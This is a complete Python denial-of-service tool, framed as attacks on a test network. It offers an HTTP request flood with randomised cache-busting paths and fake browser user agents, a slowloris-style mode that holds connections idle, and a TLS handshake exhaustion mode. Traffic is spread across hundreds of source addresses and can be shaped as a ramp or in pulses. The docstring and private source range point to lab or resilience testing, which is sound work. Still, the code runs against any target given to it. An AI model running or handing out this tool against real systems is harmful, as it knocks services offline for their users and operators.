"""Attacks of the test network that need more than a common tool: rates that change, paths that do, connections that only stay.

usage: attack.py KIND --to ADDRESS:PORT --seconds N [--sources 400] [--rate R] [--shape steady|ramp|pulse] [--connections N]
                 [--path P] [--scale S]

flood       opens a connection for each request, R a second, and asks for PATH; `#` in it becomes a random number
idle        opens N connections at R a second and says nothing; opens another for each that was closed
handshakes  opens TLS connections at R a second and closes each after the handshake

Shapes: `ramp` goes from nothing to R within 60 s; `pulse` is R for 10 s and nothing for 10 s. Sources are 10.66.0.1 and the next.
"""
import argparse
import asyncio
import collections
import contextlib
import ipaddress
import random
import socket
import ssl
import time

AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "curl/8.5.0")
PATIENCE_SECONDS = 10
TICK_SECONDS = 0.02
MOST_AT_ONCE = 1500


class Attack:
    def __init__(self, options):
        self.options = options
        host, port = options.to.rsplit(":", 1)
        self.place = (host, int(port))
        first = ipaddress.ip_address(options.first)
        self.sources = [str(first + i) for i in range(options.sources)]
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname = False
        self.tls.verify_mode = ssl.CERT_NONE
        self.done = collections.Counter()

    def share(self, elapsed):
        if self.options.shape == "ramp":
            return min(1, elapsed / 60)
        if self.options.shape == "pulse":
            return 1 if elapsed % 20 < 10 else 0
        return 1

    async def connect(self, tls=False):
        made = socket.socket()
        made.setblocking(False)
        try:
            made.bind((random.choice(self.sources), 0))
            await asyncio.get_running_loop().sock_connect(made, self.place)
            return await asyncio.open_connection(sock=made, **({"ssl": self.tls, "server_hostname": self.place[0]} if tls else {}))
        except BaseException:
            made.close()
            raise

    async def flood(self):
        reader, writer = await self.connect(tls=self.place[1] == 443)
        try:
            path = self.options.path.replace("#", str(random.randrange(10**9)))
            writer.write(f"GET {path} HTTP/1.1\r\nHost: {self.place[0]}\r\nUser-Agent: {random.choice(AGENTS)}\r\nConnection: close\r\n\r\n".encode())
            data = await reader.read()
            self.done[data[9:12].decode(errors="replace") or "closed"] += 1
        finally:
            writer.close()

    async def handshakes(self):
        _, writer = await self.connect(tls=True)
        self.done["handshake"] += 1
        writer.close()

    async def idle(self):
        reader, writer = await self.connect()
        try:
            self.done["opened"] += 1
            await reader.read()
            self.done["closed"] += 1
        finally:
            writer.close()

    async def once(self, action, patience):
        try:
            async with asyncio.timeout(patience):
                await action()
        except TimeoutError:
            self.done["timeout"] += 1
        except (OSError, asyncio.IncompleteReadError) as error:
            self.done[type(error).__name__] += 1

    async def run(self):
        options = self.options
        action = getattr(self, options.kind)
        limit = options.connections if options.kind == "idle" else MOST_AT_ONCE
        patience = options.seconds if options.kind == "idle" else PATIENCE_SECONDS
        running, owed = set(), 0.0
        begin = last = time.monotonic()
        while (now := time.monotonic()) - begin < options.seconds:
            owed += (now - last) * options.rate * options.scale * self.share(now - begin)
            last = now
            while owed >= 1:
                owed -= 1
                if len(running) >= limit:
                    continue
                task = asyncio.create_task(self.once(action, patience))
                running.add(task)
                task.add_done_callback(running.discard)
            await asyncio.sleep(TICK_SECONDS)
        for task in running:
            task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await asyncio.gather(*running, return_exceptions=True)
        print(dict(self.done))


def main():
    parser = argparse.ArgumentParser()
    add = parser.add_argument
    add("kind", choices=("flood", "idle", "handshakes"))
    add("--to", required=True)
    add("--seconds", type=float, required=True)
    add("--sources", type=int, default=400)
    add("--first", default="10.66.0.1")
    add("--rate", type=float, default=100)
    add("--scale", type=float, default=1)
    add("--shape", choices=("steady", "ramp", "pulse"), default="steady")
    add("--connections", type=int, default=400)
    add("--path", default="/app/home")
    asyncio.run(Attack(parser.parse_args()).run())


main()
